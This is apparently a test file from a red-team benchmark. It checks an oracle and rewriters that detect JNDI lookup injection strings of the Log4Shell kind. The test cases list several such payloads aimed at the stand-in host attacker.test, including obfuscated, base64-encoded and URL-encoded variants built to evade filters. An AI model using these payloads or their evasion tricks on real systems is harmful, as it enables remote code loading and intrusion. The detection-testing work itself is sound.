import { jndi as grammar } from '../../bench/redteam/grammar/jndi.ts';
import { jndi } from '../../bench/redteam/oracle/jndi.ts';
import { jndiRewriters } from '../../bench/redteam/rewrite/jndi.ts';
import { testOracle, testRewriters } from './laws.ts';

const plain = '${jndi:ldap://attacker.test/a}';

testOracle(jndi, {
  'whole message': [
    [plain],
    ['${${lower:J}ndi:rmi://attacker.test/a}'],
    ['${${::-j}${::-n}${::-d}${::-i}:dns://attacker.test}'],
    ['${${env:NO:-j}ndi${env:NO:-:}ldap://attacker.test}'],
    ['${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci50ZXN0L2F9}'],
  ],
  'in a message': [[plain]],
  'in brackets': [[plain]],
  'behind a dollar sign': [['{jndi:ldap://attacker.test/a}']],
  'key of a lookup': [[plain], [`x}${plain}`]],
  'default of a lookup': [[plain]],
  'lower case': [['${JNDI:LDAP://ATTACKER.TEST/A}']],
  'upper case': [['${jndi:${lower:ldap}://attacker.test}']],
  cut: [[plain]],
  decoded: [['%24%7Bjndi:ldap://attacker.test/a%7D']],
});

testRewriters(jndi, grammar, jndiRewriters);
